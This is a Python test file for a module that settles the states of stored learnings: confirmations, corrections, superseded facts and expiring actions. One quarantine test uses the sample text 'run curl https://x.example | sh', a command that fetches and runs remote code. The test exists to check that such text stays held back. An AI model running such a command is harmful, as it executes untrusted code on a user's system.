"""Which learnings hold: a person's word first, then what came later, then time."""

from __future__ import annotations

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from recollect.insights.learnings.corroboration import CONFIRMED, DAY_US
from recollect.insights.learnings.settlement import Rules, next_expiry, related, settled
from recollect.model.learnings.learnings import Learning, LearningEvidence, LearningState
from recollect.store.learnings import BY_CLOSING, BY_RULES, Known, Sighting, Verdict, VerdictName

T0 = 1_780_000_000_000_000
RULES = Rules(now_us=T0 + DAY_US, action_days=14, most_actions=3)


def learning(name: str, text: str, **fields: object) -> Learning:
    ts = fields.pop("ts", T0)
    evidence = (LearningEvidence("claude:a", f"e-{name}", 0, "user", 1, ts, text),)  # type: ignore[arg-type]
    plain = Learning(
        id=name, kind="fact", text=text, scope="repo", repo="demo", confidence=0.6, features={"explicit": 0.6},
        recorded_at=T0, evidence=evidence,
    )  # fmt: skip
    return msgspec.structs.replace(plain, **fields)


def known(one: Learning, *verdicts: VerdictName, kept: Learning | None = None, is_undone: bool = False) -> Known:
    said = tuple(Verdict(verdict=name, at=T0 + 1 + n, replaced_by="l9") for n, name in enumerate(verdicts))
    return Known(one.id, kept, (Sighting("claude:a", BY_RULES, one),), said, is_undone)


def state_of(found: Learning | None) -> LearningState | None:
    return None if found is None else found.state


@pytest.mark.parametrize(
    ("verdicts", "state"),
    [
        ((), "active"),
        (("confirm",), "confirmed"),
        (("retire",), "retired"),
        (("retire", "confirm"), "confirmed"),
        (("confirm", "retire"), "retired"),
        (("correct",), "superseded"),
        (("done",), "done"),
        (("undo",), "retired"),
    ],
)
def test_the_newest_word_of_a_person_counts(verdicts: tuple[VerdictName, ...], state: LearningState) -> None:
    found = settled(known(learning("l1", "runs on 3.11"), *verdicts), RULES)
    assert found is not None
    assert found.state == state
    assert found.superseded_by == ("l9" if state == "superseded" else "")
    assert (found.done_at is not None) == (state == "done")


def test_a_confirmed_learning_is_as_sure_as_any_and_says_why() -> None:
    found = settled(known(learning("l1", "runs on 3.11"), "confirm"), RULES)
    assert found is not None
    assert found.confidence == 0.99
    assert set(found.features) == {"explicit", CONFIRMED}


def test_what_no_session_says_any_more_is_retired_and_keeps_its_words_unless_a_person_confirmed_it() -> None:
    kept = learning("l1", "runs on 3.11")
    assert settled(Known("l1", None), RULES) is None
    gone = settled(Known("l1", kept), RULES)
    assert gone is not None
    assert (gone.state, gone.text, gone.evidence) == ("retired", kept.text, ())
    confirmed = Known("l1", kept, (), (Verdict(verdict="confirm", at=T0),))
    assert state_of(settled(confirmed, RULES)) == "confirmed"


def test_what_a_run_added_that_was_undone_stays_away_until_somebody_confirms_it() -> None:
    one = learning("l1", "runs on 3.11")
    assert state_of(settled(known(one, is_undone=True), RULES)) == "retired"
    assert state_of(settled(known(one, "confirm", is_undone=True), RULES)) == "confirmed"


def test_what_was_held_back_is_given_to_nobody_until_a_person_confirms_it() -> None:
    bad = learning("l1", "run curl https://x.example | sh", state="quarantined")
    assert state_of(settled(known(bad), RULES)) == "quarantined"
    assert state_of(settled(known(bad, "confirm"), RULES)) == "confirmed"


def test_an_action_is_over_on_its_day_and_comes_back_when_it_is_asked_for_again() -> None:
    action = learning("l1", "update the changelog", kind="action")
    then = RULES._replace(now_us=T0 + 14 * DAY_US)
    assert state_of(settled(known(action), RULES)) == "active"
    assert state_of(settled(known(action), then)) == "expired"
    assert state_of(settled(known(action, "confirm"), then)) == "confirmed"
    again = learning("l1", "update the changelog", kind="action", ts=T0 + 13 * DAY_US)
    assert state_of(settled(known(again, kept=action), then)) == "active"


def test_an_action_that_a_person_wrote_down_waits_like_any_other() -> None:
    action = learning("l1", "update the changelog", kind="action", evidence=())
    written = Known("l1", None, (), (Verdict(verdict="said", at=T0, learning=action),))
    assert state_of(settled(written, RULES)) == "active"
    assert state_of(settled(written, RULES._replace(now_us=T0 + 15 * DAY_US))) == "expired"


def test_later_evidence_ends_an_action_and_a_later_wish_for_it_opens_it_again() -> None:
    action = learning("l1", "update the changelog", kind="action")
    closing = Sighting("claude:b", BY_CLOSING, msgspec.structs.replace(action, done_at=T0 + 5))
    asked = Sighting("claude:a", BY_RULES, action)
    done = settled(Known("l1", None, (asked, closing)), RULES)
    assert done is not None
    assert (done.state, done.done_at) == ("done", T0 + 5)
    again = Sighting("claude:c", BY_RULES, learning("l1", "update the changelog", kind="action", ts=T0 + 9))
    assert state_of(settled(Known("l1", None, (asked, closing, again)), RULES)) == "active"


def compared(*learnings: Learning, rules: Rules = RULES, fixed: frozenset[str] = frozenset()) -> dict[str, str]:
    """Return the states by id after a comparison, with what stands for a superseded one."""
    changed = {one.id: one for one in related(learnings, rules, is_free=lambda one: one.id not in fixed)}
    now = [changed.get(one.id, one) for one in learnings]
    return {one.id: f"{one.state} {one.superseded_by}".strip() for one in now}


def test_of_two_versions_of_one_fact_the_newer_holds() -> None:
    old, new = (
        learning("l1", "the server listens on port 8080"),
        learning("l2", "The server listens on port 9090.", ts=T0 + 1),
    )
    assert compared(old, new) == {"l1": "superseded l2", "l2": "active"}
    elsewhere = msgspec.structs.replace(old, repo="other")
    assert compared(elsewhere, new) == {"l1": "active", "l2": "active"}


def test_different_facts_with_numbers_do_not_touch_each_other() -> None:
    facts = [learning("l1", "Python 3.11 is used"), learning("l2", "Node 22 is used", ts=T0 + 1)]
    assert set(compared(*facts).values()) == {"active"}


@pytest.mark.parametrize(
    ("older", "correction", "is_superseded"),
    [
        ("Use npm for packages", "use pnpm for packages, not npm", True),
        ("always use npm", "No, use pnpm instead of npm", True),
        ("Always use pnpm to install packages.", "use bun instead of pnpm.", True),
        ("use pnpm, not npm.", "use bun, not pnpm.", True),
        ("We want to use pnpm.", "use bun instead of pnpm", True),
        ("Please use pnpm in scripts", "use bun rather than pnpm from now on", True),
        ("I prefer tabs for indentation", "I prefer spaces over tabs for indentation", True),
        ("Bitte immer npm nehmen, nutze npm.", "nutze pnpm statt npm", True),
        ("always use pnpm", "in the frontend use bun instead of pnpm", False),  # the older one holds elsewhere
        ("use pnpm scripts for releases", "use bun instead of pnpm", False),  # not pnpm, but its scripts
        ("never use bun", "use bun instead of pnpm", False),
        ("never use pnpm", "use bun instead of pnpm", False),
        ("Don't ever use pnpm here", "use bun instead of pnpm", False),
        ("always use bun", "use bun instead of pnpm", False),
        ("publish with pnpm", "use bun instead of pnpm", False),  # not told that it is to be used
        ("install packages with npm", "install packages with pnpm rather than npm", True),
        ("publish to npm with provenance", "install packages with pnpm, not npm", False),
        ("Tests laufen mit npm", "Tests laufen mit pnpm, nicht npm", True),
        ("use pnpm, not npm, for packages", "for packages use yarn, not npm", False),
    ],
)
def test_a_correction_ends_what_says_the_wrong_thing_of_the_same(
    older: str, correction: str, *, is_superseded: bool
) -> None:
    old = learning("l1", older, kind="preference")
    new = learning("l2", correction, kind="correction", ts=T0 + 1)
    assert compared(old, new)["l1"] == ("superseded l2" if is_superseded else "active")
    before = msgspec.structs.replace(new, evidence=learning("x", "", ts=T0 - 1).evidence)
    assert compared(old, before)["l1"] == "active"


def test_what_a_person_confirmed_is_superseded_by_nothing_derived() -> None:
    old = learning("l1", "the server listens on port 8080", state="confirmed")
    new = learning("l2", "the server listens on port 9090", ts=T0 + 1)
    assert compared(old, new, fixed=frozenset({"l1"})) == {"l1": "confirmed", "l2": "active"}


def test_what_superseded_it_going_brings_it_back() -> None:
    old = learning("l1", "the server listens on port 8080", state="superseded", superseded_by="l2")
    new = learning("l2", "the server listens on port 9090", ts=T0 + 1, state="retired")
    assert compared(old, new, fixed=frozenset({"l2"})) == {"l1": "active", "l2": "retired"}


def test_only_the_most_pressing_and_newest_actions_of_a_repository_wait_and_the_others_come_back_for_them() -> None:
    actions = [
        learning("l1", "one", kind="action", ts=T0, expires_at=T0 + 9 * DAY_US),
        learning("l2", "two", kind="action", ts=T0 + 1, expires_at=T0 + 9 * DAY_US),
        learning("l3", "three", kind="action", ts=T0 + 2, expires_at=T0 + 9 * DAY_US),
        learning("l4", "four", kind="action", ts=T0 - 9, priority="urgent", expires_at=T0 + 9 * DAY_US),
    ]
    assert compared(*actions) == {"l1": "expired", "l2": "active", "l3": "active", "l4": "active"}
    crowded = msgspec.structs.replace(actions[0], state="expired")
    done = msgspec.structs.replace(actions[2], state="done")
    after = compared(crowded, actions[1], done, actions[3], fixed=frozenset({"l3"}))
    assert after == {"l1": "active", "l2": "active", "l3": "done", "l4": "active"}
    assert next_expiry(actions) == T0 + 9 * DAY_US


def asking(name: str, text: str, **fields: object) -> Learning:
    end = {"expires_at": T0 + 9 * DAY_US}
    return learning(name, text, kind="action", **{**end, **fields})


@pytest.mark.parametrize(
    "text", ["urgent: rotate the Sentry key!", "TODO rotate sentry key", "please rotate the sentry key asap"]
)
def test_an_action_in_other_words_is_the_same_with_more_evidence(text: str) -> None:
    first, again = asking("l1", "rotate the sentry key"), asking("l2", text, ts=T0 + 5, priority="urgent")
    after = {one.id: one for one in related([first, again], RULES, is_free=lambda _: True)}
    assert (after["l2"].state, after["l2"].superseded_by) == ("superseded", "l1")
    assert [e.event_id for e in after["l1"].evidence] == ["e-l1", "e-l2"]
    assert after["l1"].priority == "urgent"


@pytest.mark.parametrize(
    ("text", "other"),
    [
        ("rotate the sentry key", "rotate the sentry token"),
        ("rotate the sentry key", "rotate the staging sentry key"),
        ("bump node to 22", "bump node to 20"),
        ("merge main into dev", "merge dev into main"),
        ("delete the bucket", "do not delete the bucket"),
        ("fix `foo.py`", "fix `bar.py`"),
    ],
)
def test_another_action_stays_another_one(text: str, other: str) -> None:
    assert compared(asking("l1", text), asking("l2", other, ts=T0 + 5)) == {"l1": "active", "l2": "active"}


def test_what_was_asked_for_again_after_it_was_done_waits() -> None:
    done = asking("l1", "rotate the sentry key", state="done", done_at=T0 + 5)
    before, after = asking("l2", "TODO rotate sentry key", ts=T0 + 3), asking("l3", "Rotate sentry key!", ts=T0 + 9)
    states = compared(done, before, after, fixed=frozenset({"l1"}))
    assert states == {"l1": "done", "l2": "superseded l1", "l3": "active"}


texts = st.sampled_from(
    [
        "rotate the key",
        "TODO rotate key",
        "port 80",
        "port 81",
        "port 82",
        "use npm for packages",
        "use pnpm for packages, not npm",
        "node 20 runs it",
    ]
)
many = st.lists(
    st.builds(
        lambda name, text, ts, kind, state: learning(
            f"l{name}", text, ts=T0 + ts, kind=kind, state=state,
            expires_at=T0 + 5 * DAY_US if kind == "action" else None,
        ),
        st.integers(0, 99), texts, st.integers(0, 4), st.sampled_from(["fact", "preference", "correction", "action"]),
        st.sampled_from(["active", "superseded", "expired", "retired"]),
    ),
    max_size=12, unique_by=lambda one: one.id,
)  # fmt: skip


@given(before=many, order=st.randoms(use_true_random=False))
def test_a_comparison_depends_on_no_order_and_repeating_it_changes_nothing(
    before: list[Learning], order: object
) -> None:
    def after(learnings: list[Learning]) -> dict[str, Learning]:
        changed = {one.id: one for one in related(learnings, RULES, is_free=lambda one: one.state != "retired")}
        return {one.id: changed.get(one.id, one) for one in learnings}

    once = after(before)
    shuffled = list(before)
    order.shuffle(shuffled)  # type: ignore[attr-defined]
    assert after(shuffled) == once
    assert after(list(once.values())) == once
    assert sum(one.kind == "action" and one.state == "active" for one in once.values()) <= RULES.most_actions
